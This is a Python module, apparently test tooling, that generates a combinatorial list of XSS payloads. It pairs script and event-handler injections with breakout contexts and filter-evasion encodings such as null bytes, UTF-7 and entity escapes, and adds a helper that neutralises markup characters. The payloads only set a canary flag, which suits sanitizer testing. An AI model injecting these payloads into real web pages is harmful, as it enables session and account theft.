"""Scripts: strings that would act on a page which took them for more than words.

They are put together here from what a page may open and close, from what may act, and
from how either may be written. Each would set `zq` on the page.
"""

from collections.abc import Callable, Iterator
from html import escape
from itertools import cycle
from typing import Final
from urllib.parse import quote

MARK: Final = "zq"
_ACT: Final = f"top.{MARK}=1"
#: What would act by itself, or as soon as it is touched.
CORES: Final = (
    f"<script>{_ACT}</script>",
    f"<img src=x onerror={_ACT}>",
    f"<svg onload={_ACT}>",
    f"<details open ontoggle={_ACT}>",
    f"<input autofocus onfocus={_ACT}>",
    f"<video><source onerror={_ACT}></video>",
    f"<iframe srcdoc='<script>{_ACT}</script>'></iframe>",
    f"<a href=javascript:{_ACT}>{MARK}</a>",
    f"<object data=javascript:{_ACT}></object>",
    f"<form action=javascript:{_ACT}><button>{MARK}</button></form>",
    f"<style>@import'//{MARK}.test';</style>",
    f"<meta http-equiv=refresh content='0;url=//{MARK}.test'>",
    f"<base href=//{MARK}.test/>",
    f"<link rel=stylesheet href=//{MARK}.test>",
    f"<math><mtext><{MARK}-own></mtext></math>",
)
#: What stands before it, so that whatever it stands in would end.
CONTEXTS: Final = (
    *(
        "",
        '">',
        "'>",
        "`>",
        '" x="',
        "</textarea>",
        "</title>",
        "</script>",
        "</style>",
    ),
    *(
        "-->",
        "]]>",
        "</option></select>",
        "</svg>",
        "</dd></dl>",
        "</template>",
        "<!--",
    ),
    *(
        "{{",
        "{%",
        "${",
        "\\u003c",
        "\0",
        "\n",
        "\u2028",
        "&lt;",
        "javascript:",
        "data:text/html,",
    ),
)
#: How it may be written so that something might read it otherwise.
WRITTEN: Final[tuple[Callable[[str], str], ...]] = (
    str,
    str.swapcase,
    escape,
    quote,
    lambda text: escape(escape(text)),
    lambda text: text.replace("<", "<\0").replace("=", "\0="),
    lambda text: text.replace(" ", "\t").replace("=", "\n=\n"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "&#60").replace(">", "&#x3e;"),
    lambda text: text.replace("<", "<<").replace("script", "scr<b>ipt"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
)
#: What would break out of an attribute without any bracket.
BARE: Final = tuple(
    f"{before}{name}={_ACT} {after}"
    for before in ('"', "'", "`", '" autofocus ', "' style=a:b ")
    for name in ("onfocus", "onmouseover", "onclick", "formaction")
    for after in ('x="', "x='", "//")
)


def _made() -> Iterator[str]:
    ways = cycle(WRITTEN)
    for core in CORES:
        for context in CONTEXTS:
            yield context + next(ways)(core)
    yield from BARE


STRINGS: Final[tuple[str, ...]] = tuple(dict.fromkeys(_made()))
#: What has no meaning to a page, in the place of what has.
_HARMLESS: Final = str.maketrans(
    "<>\"'`&={}$%\\/#;:+", "\u2039\u203a\u201c\u2019\u02cb\u214b\u2248" + "\u0254" * 10
)


def harmless(text: str) -> str:
    """Give the same words, with nothing in them that any page could take for more."""
    return text.translate(_HARMLESS)
